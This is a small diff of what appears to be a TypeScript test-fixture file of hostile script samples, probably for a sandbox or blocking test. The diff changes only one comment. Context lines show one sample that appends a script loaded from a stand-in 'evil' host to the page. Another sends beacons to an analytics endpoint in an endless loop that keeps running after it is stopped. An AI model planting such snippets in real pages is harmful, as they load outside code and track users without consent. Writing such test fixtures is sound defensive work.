@@ -17,7 +17,7 @@ export const hostile = {
     try { script.src = evil + 'script.js'; document.head.append(script) } catch {}`,
 } as const
 
-/** Keeps sending after it was stopped. */
+/** A script that keeps sending after it was stopped. */
 export const neverStops = `setInterval(() => {
   const address = 'https://region1.google-analytics.com/g/collect?en=still&by='
   navigator.sendBeacon(address + 'beacon')
